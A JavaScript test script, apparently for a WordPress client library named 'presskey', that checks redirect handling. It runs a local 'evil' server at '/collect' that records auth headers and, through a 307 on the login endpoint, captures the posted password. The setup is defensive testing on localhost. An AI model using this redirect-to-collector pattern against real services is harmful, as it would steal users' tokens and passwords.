// The table's row on redirects: "React Native always follows redirects. There presskey notices the redirect afterwards and rejects the response."
// As in React Native: `Request` has no `redirect`, `fetch` follows, and response.url is the last address.
delete Request.prototype.redirect;
import { createServer } from "node:http";
import { startWp, PLUGIN } from "./wp.mjs";
import { createClient } from "presskey";
const got = []; let step;
const evil = createServer((req, res) => { got.push(`${req.method} ${req.url} x-auth: ${req.headers["x-auth"]?.slice(0, 20) ?? "-"}`); res.writeHead(302, { location: step }).end(); }).listen(0, "127.0.0.1");
await new Promise((r) => evil.once("listening", r));
let how = "";
const site = await startWp((req, res, u, body, base) => {
  if (how === "query") res.setHeader("link", `<${base}/index.php?rest_route=/>; rel="https://api.w.org/"`);
  if (how === "query" && /wp\/v2\/orders/.test(u) && !/moved/.test(u)) { res.writeHead(302, { location: `${base}/index.php?rest_route=/other/v1/route&moved` }).end(); return true; }
  if (how === "query" && /moved/.test(u)) { res.end('[{"id":666,"title":"another route\'s words"}]'); return true; }
  if (how === "around" && /wp\/v2\/orders/.test(u) && !/back/.test(u)) { step = `${base}${u}${u.includes("?") ? "&" : "?"}back`; res.writeHead(302, { location: `http://localhost:${evil.address().port}/collect` }).end(); return true; }
  if (how === "around" && /back/.test(u)) { res.end('[{"id":1}]'); return true; }
  if (/wp-json/.test(u) && how === "query") { res.statusCode = 404; res.setHeader("content-type", "text/html"); res.end("<html>404</html>"); return true; }
  return false;
});
const follow = (input, init) => fetch(input, { ...init, redirect: "follow" });
for (how of ["query", "around"]) for (const headerName of ["X-Auth"]) {
  got.length = 0;
  const wp = createClient({ site: site.url, plugin: PLUGIN, fetch: follow, headerName });
  await wp.login({ username: "anna", password: "pass-word-1" }); await wp.json("/wp/v2/users/me").catch((e) => e.code);
  console.log(how, "→", await wp.json("/wp/v2/orders").then(JSON.stringify, (e) => e.code), "| the other origin got:", got.join() || "-", "| last address asked:", site.log.at(-1).url.slice(0, 80));
}
// A login: the password goes round by the other origin (307), and the login succeeds as if nothing had happened.
{
  how = "login"; got.length = 0; let back = false; const bodies = [];
  evil.removeAllListeners("request"); evil.on("request", async (req, res) => { let b = ""; for await (const c of req) b += c; bodies.push(b); back = true; res.writeHead(307, { location: step }).end(); });
  const front = createServer(async (req, res) => { // the site, behind somebody who can make it redirect
    if (/jwt-auth\/v1\/token/.test(decodeURIComponent(req.url)) && !back) { step = `http://127.0.0.1:${front.address().port}${req.url}`; return res.writeHead(307, { location: `http://localhost:${evil.address().port}/collect` }).end(); }
    let b = ""; for await (const c of req) b += c; const r = await fetch(site.url + req.url, { method: req.method, headers: { "content-type": req.headers["content-type"] ?? "text/plain" }, body: b || undefined }); res.writeHead(r.status, { "content-type": r.headers.get("content-type") }).end(await r.text()); }).listen(0, "127.0.0.1");
  await new Promise((r) => front.once("listening", r));
  const wp = createClient({ site: `http://127.0.0.1:${front.address().port}`, plugin: PLUGIN, fetch: follow });
  console.log("login →", await wp.login({ username: "anna", password: "pass-word-1" }).then((s) => s.status, (e) => e.code), "| the other origin got:", bodies.join());
}
if (process.argv[2]) for (const l of site.log) console.log(l.method, l.url.slice(0,120));
process.exit();
